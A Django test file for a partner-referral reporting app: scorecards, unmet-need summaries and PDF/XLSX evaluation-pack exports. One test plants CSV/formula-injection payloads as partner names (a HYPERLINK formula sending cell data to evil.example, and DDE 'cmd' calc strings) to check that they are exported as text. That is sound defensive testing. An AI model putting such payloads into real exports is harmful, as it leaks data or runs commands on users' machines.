"""Scorecards, the partnership summary and the evaluation meeting's pack (page, PDF and XLSX)."""

import datetime
import io
import re
from collections import Counter

from django.urls import reverse
from django.utils import timezone, translation
from openpyxl import load_workbook
from pypdf import PdfReader

from clients.tests.factories import make_client
from partners.codes import ServiceField
from partners.models import Partner
from partners.tests.factories import make_agreement, make_partner
from referrals import services as referral_services
from referrals.models import Referral
from referrals.tests.base import ReferralTestCase
from reports import exports, scorecards


class ScorecardTestCase(ReferralTestCase):
    """LBH Uji: budi referred, accepted, two sessions (one absent), reported with one of two outcomes
    achieved; another client declined. LPK Uji: nothing. A verified partner without an agreement."""

    def setUp(self):
        super().setUp()
        self.today = timezone.localdate()
        self.start = self.today - datetime.timedelta(days=30)
        reported = self.accepted()
        self.held(reported)
        self.held(reported, attendance="absent", absence_reason="Sakit", summary="")
        referral_services.referral_report(
            referral=reported,
            ratings={o.pk: (a, "") for o, a in zip(reported.outcomes.all(), ["achieved", "not"], strict=True)},
            summary="Selesai",
            acting_user=self.paula,
        )
        self.siti = make_client(self.cirebon, officer=self.olivia, name="Siti", regency="32.74")
        declined = self.refer(episode=self.siti.current_episode)
        referral_services.referral_decline(referral=declined, reason="Penuh", acting_user=self.paula)
        self.verified = make_partner(
            self.cirebon, name="Yayasan Baru", status=Partner.Status.VERIFIED, fields=[ServiceField.SOCIAL]
        )
        self.ending = make_partner(self.cirebon, name="Rehab Segera", fields=[ServiceField.PERSONALITY])
        make_agreement(self.ending, fields=[ServiceField.PERSONALITY], ends_on=self.today + datetime.timedelta(20))

    def test_scorecards_count_the_period_for_all_partners_in_a_fixed_number_of_queries(self):
        partners = scorecards.office_partners(self.cirebon)
        with self.assertNumQueries(9):
            cards = {c.partner.name: c for c in scorecards.scorecards(partners, self.start, self.today)}
        self.assertEqual(sorted(cards), ["LBH Uji", "LPK Uji", "Rehab Segera", "Yayasan Baru"])
        lbh = cards["LBH Uji"]
        self.assertEqual((lbh.received, lbh.accepted, lbh.declined), (2, 1, 1))
        self.assertEqual((lbh.sessions_held, lbh.sessions_attended, lbh.attendance_percent), (2, 1, 50))
        self.assertEqual((lbh.outcomes_rated, lbh.outcomes_achieved), (2, 1))
        self.assertEqual(lbh.days_to_accept, 0.0)
        self.assertEqual(lbh.agreement.code, "in_force")
        self.assertEqual(cards["Rehab Segera"].agreement.code, "expiring")
        self.assertEqual(cards["Yayasan Baru"].agreement.code, "none")
        self.assertIsNone(cards["LPK Uji"].attendance_rate)
        before = scorecards.scorecards(partners, self.start - datetime.timedelta(60), self.start)
        self.assertEqual(sum(c.received for c in before), 0)

    def test_days_to_accept_is_the_mean_wait_of_those_accepted(self):
        referral = self.refer(episode=self.siti.current_episode, partner=self.lpk, field=ServiceField.INDEPENDENCE)
        Referral.objects.filter(pk=referral.pk).update(sent_at=timezone.now() - datetime.timedelta(days=3))
        referral_services.referral_accept(referral=referral, acting_user=self.lena)
        (card,) = scorecards.scorecards([self.lpk], self.start, self.today)
        self.assertEqual(card.days_to_accept, 3.0)

    def test_the_summary_shows_partners_referrals_and_unmet_needs_by_field_and_regency(self):
        with self.assertNumQueries(8):
            summary = scorecards.partnership_summary(self.cirebon, self.today)
        rows = {r.regency.pk: r for r in summary.rows}
        self.assertEqual(set(rows), {"32.74", "32.09", "32.12", "32.10", "32.08"})
        kab, kota = rows["32.09"], rows["32.74"]
        self.assertEqual((kab.clients, kota.clients), (1, 1))
        self.assertEqual(kab.cells["hukum"].partners, 1)
        self.assertEqual(kab.cells["kemandirian"].partners, 1)
        self.assertEqual(kab.cells["kepribadian"].partners, 1)  # Rehab Segera (default area)
        self.assertEqual(kab.cells["sosial"].partners, 0)  # Yayasan Baru is only verified
        self.assertEqual(rows["32.12"].cells["hukum"].partners, 0)
        self.assertEqual(kota.cells["hukum"].unmet, 1)  # Siti: declined, nothing else open
        self.assertEqual(kab.cells["hukum"].unmet, 0)
        self.assertIn((kab.regency, "Social and community"), [(r, str(label)) for r, label in summary.gaps])
        self.assertEqual(dict(summary.partners_by_status)["Active"], 3)

    def test_a_new_referral_meets_the_need_again(self):
        self.refer(episode=self.siti.current_episode, partner=self.lbh)
        summary = scorecards.partnership_summary(self.cirebon, self.today)
        kota = next(r for r in summary.rows if r.regency.pk == "32.74")
        self.assertEqual(kota.cells["hukum"].unmet, 0)

    def test_a_recorded_need_counts_until_a_referral_meets_it_and_each_client_counts_once(self):
        budi_need = referral_services.need_record(
            episode=self.episode, field=ServiceField.SOCIAL, description="Bantuan sosial", acting_user=self.olivia
        )
        referral_services.need_record(
            episode=self.siti.current_episode,
            field=ServiceField.LEGAL_AID,
            description="Pendampingan hukum",
            acting_user=self.olivia,
        )
        with self.assertNumQueries(8):
            summary = scorecards.partnership_summary(self.cirebon, self.today)
        rows = {r.regency.pk: r for r in summary.rows}
        self.assertEqual(rows["32.09"].cells["sosial"].unmet, 1)  # budi: a need, no partner serves it
        self.assertEqual(rows["32.74"].cells["hukum"].unmet, 1)  # Siti: declined and a need, counted once
        self.refer(episode=self.siti.current_episode, partner=self.lbh)
        referral_services.need_close(need=budi_need, reason="Dibantu keluarga", acting_user=self.olivia)
        rows = {r.regency.pk: r for r in scorecards.partnership_summary(self.cirebon, self.today).rows}
        self.assertEqual(rows["32.09"].cells["sosial"].unmet, 0)
        self.assertEqual(rows["32.74"].cells["hukum"].unmet, 0)

    def test_the_xlsx_has_the_figures_of_the_database(self):
        pack = scorecards.evaluation_pack(self.cirebon, self.start, self.today)
        book = load_workbook(io.BytesIO(exports.pack_xlsx(pack)))
        self.assertEqual(book.sheetnames, ["Scorecards", "Summary", "Agreements"])
        rows = list(book["Scorecards"].iter_rows(values_only=True))
        header, body = rows[0], {r[0]: dict(zip(rows[0], r, strict=True)) for r in rows[1:]}
        self.assertIn("Attendance rate (%)", header)
        lbh = body["LBH Uji"]
        self.assertEqual(
            (lbh["Referrals received"], lbh["Accepted"], lbh["Declined"], lbh["Sessions held"]),
            (Referral.objects.filter(partner=self.lbh).count(), 1, 1, 2),
        )
        self.assertEqual((lbh["Attendance rate (%)"], lbh["Outcomes achieved"]), (50, 1))
        self.assertEqual(body["Yayasan Baru"]["Agreement"], "no agreement")
        summary = list(book["Summary"].iter_rows(values_only=True))
        by_regency = {r[0]: dict(zip(summary[0], r, strict=True)) for r in summary[1:]}
        kota = next(r for r in pack.summary.rows if r.regency.pk == "32.74").regency.name
        self.assertEqual(by_regency[kota]["Legal aid: need, no partner"], 1)
        self.assertEqual(by_regency[kota]["Clients under supervision"], 1)
        agreements = list(book["Agreements"].iter_rows(values_only=True))[1:]
        self.assertIn(("Ending within 30 days", "Rehab Segera"), [r[:2] for r in agreements])
        self.assertEqual(len(agreements), 1)  # Yayasan Baru is only verified: no agreement is expected yet

    def test_the_xlsx_stores_names_that_look_like_formulas_as_text(self):
        hostile = {
            self.lbh.pk: '=HYPERLINK("http://evil.example/?d="&A1,"Klik")',
            self.lpk.pk: "+62 812 SUM(A1:A9)",
            self.ending.pk: "-1+cmd|' /C calc'!A0",
            self.verified.pk: "@SUM(1+1)*cmd|' /C calc'!A0",
        }
        for pk, name in hostile.items():
            Partner.objects.filter(pk=pk).update(name=name)
        self.ending.agreements.update(number_office="\t=1+1")
        with_cr = make_partner(self.cirebon, name="Baru", status=Partner.Status.VERIFIED)
        Partner.objects.filter(pk=with_cr.pk).update(name="\r=2+2")
        pack = scorecards.evaluation_pack(self.cirebon, self.start, self.today)
        book = load_workbook(io.BytesIO(exports.pack_xlsx(pack)))
        names = {c.value: c for c in book["Scorecards"]["A"][1:]}
        for name in hostile.values():
            self.assertEqual(names[name].data_type, "s", name)
            self.assertTrue(names[name].quotePrefix, name)
        # XML reads a carriage return back as a line feed; the cell is still text.
        self.assertEqual(names["\n=2+2"].data_type, "s")
        agreements = {c.value: c for row in book["Agreements"].iter_rows(min_row=2) for c in row}
        self.assertEqual(agreements["\t=1+1"].data_type, "s")
        self.assertEqual(agreements[hostile[self.ending.pk]].data_type, "s")
        every_cell = [c for sheet in book for row in sheet.iter_rows() for c in row]
        self.assertNotIn("f", {c.data_type for c in every_cell})

    def test_the_pdf_has_pages_and_the_figures_of_the_database(self):
        pack = scorecards.evaluation_pack(self.cirebon, self.start, self.today)
        html = exports.pack_html(pack)
        self.assertIn(f'<tr data-partner="{self.lbh.pk}">', html)
        self.assertIn("<svg", html)
        data = exports.pack_pdf(pack)
        self.assertTrue(data.startswith(b"%PDF-"))
        reader = PdfReader(io.BytesIO(data))
        self.assertGreaterEqual(len(reader.pages), 2)
        text = " ".join(page.extract_text() for page in reader.pages)
        for expected in ("Partner evaluation pack", "LBH Uji", "Rehab Segera", "Yayasan Baru", "50%", "1 / 2"):
            self.assertIn(expected, text)


class PackViewsTestCase(ReferralTestCase):
    def test_the_head_downloads_the_pdf_and_the_xlsx_of_the_period(self):
        self.client.force_login(self.hana)
        query = {"start": "2026-01-01", "end": timezone.localdate().isoformat()}
        page = self.client.get(reverse("reports:scorecards"), query)
        self.assertContains(page, 'id="scorecards"')
        pdf = self.client.get(reverse("reports:pack_pdf"), query)
        self.assertEqual(pdf["Content-Type"], "application/pdf")
        self.assertTrue(pdf.content.startswith(b"%PDF-"))
        self.assertIn(f"evaluasi-mitra-{self.cirebon.pk}-20260101", pdf["Content-Disposition"])
        xlsx = self.client.get(reverse("reports:pack_xlsx"), query)
        book = load_workbook(io.BytesIO(xlsx.content))
        names = [r[0] for r in book.worksheets[0].iter_rows(min_row=2, values_only=True)]
        self.assertEqual(names, ["LBH Uji", "LPK Uji"])

    def test_a_period_ending_before_it_starts_is_refused(self):
        self.client.force_login(self.hana)
        response = self.client.get(reverse("reports:pack_xlsx"), {"start": "2026-05-01", "end": "2026-04-01"})
        self.assertEqual(response["Content-Type"], "text/html; charset=utf-8")
        self.assertEqual(
            response.context["form"].errors["end"], ["The end of the period must not be before its start."]
        )

    def test_a_period_far_in_the_future_is_refused_not_a_crash(self):
        self.client.force_login(self.hana)
        for name in ("reports:scorecards", "reports:pack_pdf", "reports:pack_xlsx"):
            with self.subTest(page=name):
                for start in ("2026-01-01", "9999-12-30"):
                    response = self.client.get(reverse(name), {"start": start, "end": "9999-12-31"})
                    self.assertEqual(response.status_code, 200)
                    self.assertEqual(
                        response.context["form"].errors["end"], ["Enter a date between the years 1900 and 2100."]
                    )
                response = self.client.get(reverse(name), {"start": "2026-01-01", "end": "2099-12-31"})
                self.assertEqual(response.context["form"].errors["end"], ["Choose a period of at most five years."])

    def test_a_national_administrator_chooses_the_office_and_others_get_403(self):
        self.client.force_login(self.nadia)
        self.assertIsNone(self.client.get(reverse("reports:scorecards")).context["pack"])
        pack = self.client.get(reverse("reports:scorecards"), {"office": self.cirebon.pk}).context["pack"]
        self.assertEqual(pack.office, self.cirebon)
        for user in (self.olivia, self.paula, self.kim):
            self.client.force_login(user)
            self.assertEqual(self.client.get(reverse("reports:pack_pdf")).status_code, 403)

    def test_the_page_runs_a_fixed_number_of_queries_whatever_the_partners(self):
        self.client.force_login(self.hana)
        url = reverse("reports:scorecards")
        self.client.get(url)
        with self.assertNumQueries(23) as few:
            self.client.get(url)
        for n in range(5):
            make_agreement(make_partner(self.cirebon, name=f"Tambahan {n}"))
        with self.assertNumQueries(len(few.captured_queries)):
            self.client.get(url)


class PackLayoutTestCase(ReferralTestCase):
    """The printed pack: one heading per column, headers repeated on every page, charts that say why
    they are empty."""

    def pack(self):
        today = timezone.localdate()
        return scorecards.evaluation_pack(self.cirebon, today - datetime.timedelta(days=30), today)

    def test_no_table_has_two_columns_with_the_same_heading(self):
        make_partner(self.cirebon, name="Yayasan Sosial", fields=[ServiceField.SOCIAL, ServiceField.LEGAL_AID])
        html = exports.pack_html(self.pack())
        tables = re.findall(r"<table.*?</table>", html, flags=re.S)
        self.assertGreaterEqual(len(tables), 2)
        for table in tables:
            headings = [re.sub(r"<[^>]+>|\s+", " ", th).strip() for th in re.findall(r"<th[^>]*>(.*?)</th>", table)]
            duplicates = [h for h, n in Counter(headings).items() if n > 1]
            self.assertEqual(duplicates, [], table[:200])

    def test_the_pdf_keeps_rows_whole_and_repeats_the_header(self):
        html = exports.pack_html(self.pack())
        for rule in ("thead { display: table-header-group; }", "tr { break-inside: avoid;"):
            self.assertIn(rule, html)

    def test_charts_without_data_say_why(self):
        with translation.override("en"):
            html = exports.pack_html(self.pack())
        self.assertIn("No referrals in this period.", html)
        self.assertIn("No partner sessions held in this period", html)
        self.assertNotIn("<svg", html)

    def test_charts_with_data_draw_bars(self):
        self.accepted()
        with translation.override("en"):
            html = exports.pack_html(self.pack())
        self.assertNotIn("No referrals in this period.", html)
        self.assertIn("<svg", html)

    def test_a_scorecard_table_over_several_pages_shows_its_header_on_each(self):
        for n in range(70):
            make_partner(self.cirebon, name=f"Mitra Panjang {n:02d}")
        with translation.override("en"):
            reader = PdfReader(io.BytesIO(exports.pack_pdf(self.pack())))
        pages = [page.extract_text().splitlines() for page in reader.pages]
        # Scorecard rows begin with the partner's name; rows of the agreements table with the warning.
        tables = {"Mitra Panjang": "Days to accept", "No agreement in force Mitra Panjang": "Agreement number"}
        for row_start, header in tables.items():
            holding = [i for i, lines in enumerate(pages) if any(line.startswith(row_start) for line in lines)]
            self.assertGreaterEqual(len(holding), 2, row_start)
            for i in holding:
                self.assertTrue(any(header in line for line in pages[i]), f"{header!r} missing on page {i + 1}")
        # No scorecard row is split: each partner's row starts on exactly one page.
        for n in range(70):
            starts = [i for i, lines in enumerate(pages) if f"Mitra Panjang {n:02d}" in lines]
            self.assertEqual(len(starts), 1, n)
